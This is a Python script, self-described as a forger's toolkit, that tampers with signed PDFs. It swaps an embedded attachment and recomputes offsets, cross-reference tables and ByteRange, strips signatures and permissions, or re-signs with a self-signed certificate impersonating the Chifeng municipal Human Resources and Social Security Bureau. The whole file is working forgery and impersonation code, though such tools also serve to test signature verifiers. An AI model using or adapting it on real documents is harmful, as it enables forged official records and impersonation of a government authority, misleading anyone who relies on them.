"""A forger's tools: stranger.py ATTACK IN.pdf OUT.pdf [OTHER.pdf]

    resign       another signature by a look-alike      resave       saved again by another program
    incremental  something appended                     swap-bytes   OTHER's claim, every offset put right again
    swap-resave  OTHER's claim, no signature left       swap-resign  the same, signed by a look-alike
"""
import datetime
import io
import re
import subprocess
import sys
import zlib

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer
from pyhanko.sign import fields, signers

attack, source, target, *others = sys.argv[1:]


def look_alike():
    """A signing certificate that says it is the bureau."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, "CN"), x509.NameAttribute(NameOID.COMMON_NAME, "赤峰市人力资源和社会保障局")])
    day = datetime.datetime(2019, 1, 1)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(day).not_valid_after(day.replace(year=2060))
        .sign(key, hashes.SHA256())
    )
    pem = serialization.Encoding.PEM
    open(target + ".key", "wb").write(key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    open(target + ".crt", "wb").write(certificate.public_bytes(pem))
    return signers.SimpleSigner.load(target + ".key", target + ".crt")


def signed_by_stranger(writer):
    fields.append_signature_field(writer, fields.SigFieldSpec("Stranger"))
    metadata = signers.PdfSignatureMetadata(field_name="Stranger", md_algorithm="sha256")
    return signers.PdfSigner(metadata, signer=look_alike()).sign_pdf(writer).getvalue()


def attached_claim(root):
    """The stream of the one attached file."""
    return root["/Names"]["/EmbeddedFiles"]["/Names"][1]["/EF"]["/F"]


def bytes_of(file):
    with open(file, "rb") as stream:
        return stream.read()


def claim_of(file):
    return attached_claim(PdfFileReader(io.BytesIO(bytes_of(file))).root).data


def table_with_offsets(table, moved):
    """The cross-reference stream with every offset changed (ISO 32000-1, 7.5.8): entries of `width` bytes, of kind 1 in the file."""
    parts = re.search(rb"^(.*?/W\[(\d+) (\d+) (\d+)\].*?)/Length (\d+)(.*?stream\n)", table, re.DOTALL)
    widths = [int(parts[2]), int(parts[3]), int(parts[4])]
    entries = bytearray(zlib.decompress(table[parts.end():parts.end() + int(parts[5])]))
    for place in range(0, len(entries), sum(widths)):
        field = slice(place + widths[0], place + widths[0] + widths[1])
        if int.from_bytes(entries[place:place + widths[0]]) == 1:
            entries[field] = moved(int.from_bytes(entries[field])).to_bytes(widths[1])
    packed = zlib.compress(bytes(entries), 9)
    return parts[1] + b"/Length %d" % len(packed) + parts[6] + packed + table[parts.end() + int(parts[5]):]


def with_claim_in_bytes(pdf, claim):
    """The attached file replaced, and length, table, startxref and ByteRange made to fit: all but the signature."""
    found = re.search(rb"/EmbeddedFile/.*?/Size (\d+).*?/Length (\d+)>>stream\n", pdf, re.DOTALL)
    packed = zlib.compress(claim, 9)
    head = found.group().replace(b"/Size " + found[1], b"/Size %d" % len(claim))
    head = head.replace(b"/Length " + found[2], b"/Length %d" % len(packed))
    end = found.end() + int(found[2])
    longer = len(head) + len(packed) - (end - found.start())
    moved = lambda offset: offset + longer if offset > found.start() else offset
    start = re.search(rb"startxref\n(\d+)", pdf)
    rest = pdf[end:int(start[1])] + table_with_offsets(pdf[int(start[1]):start.start()], moved)
    rest += b"startxref\n%d" % moved(int(start[1])) + pdf[start.end():]
    forged = pdf[:found.start()] + head + packed + rest
    old = re.search(rb"/ByteRange\[0 (\d+) (\d+) (\d+) *\]", forged)
    gap, behind = moved(int(old[1])), moved(int(old[2]))
    new = b"/ByteRange[0 %d %d %d" % (gap, behind, len(forged) - behind)
    return forged[:old.start()] + new.ljust(len(old.group()) - 1) + b"]" + forged[old.end():]


def with_claim_saved_again(pdf, claim):
    """The same by a library: a new file with the other claim and without form, signature and permissions."""
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(pdf)))
    attached_claim(writer.root)._data = claim
    attached_claim(writer.root)._encoded_data = None
    for key in ["/AcroForm", "/Perms", "/DSS", "/Extensions"]:
        writer.root.pop(key, None)
    for annotations in [page["/Annots"] for page in (kid.get_object() for kid in writer.root["/Pages"]["/Kids"])]:
        for index in reversed(range(len(annotations))):
            if annotations[index].get("/FT") == "/Sig":
                del annotations[index]
    saved = io.BytesIO()
    writer.write(saved)
    return saved.getvalue()


if attack == "resave":
    subprocess.run(["qpdf", "--linearize", source, target], check=False)
    sys.exit()
if attack == "incremental":
    writer = IncrementalPdfFileWriter(io.BytesIO(bytes_of(source)), strict=False)
    writer.root["/Forged"] = generic.pdf_string("yes")
    writer.update_root()
    forged = io.BytesIO()
    writer.write(forged)
    forged = forged.getvalue()
elif attack == "swap-bytes":
    forged = with_claim_in_bytes(bytes_of(source), claim_of(others[0]))
elif attack == "swap-resave":
    forged = with_claim_saved_again(bytes_of(source), claim_of(others[0]))
elif attack == "swap-resign":
    forged = with_claim_saved_again(bytes_of(source), claim_of(others[0]))
    forged = signed_by_stranger(IncrementalPdfFileWriter(io.BytesIO(forged), strict=False))
else:
    plain = target + ".plain"
    subprocess.run(["qpdf", "--remove-restrictions", source, plain], check=False)
    forged = signed_by_stranger(IncrementalPdfFileWriter(io.BytesIO(bytes_of(plain)), strict=False))
with open(target, "wb") as out:
    out.write(forged)
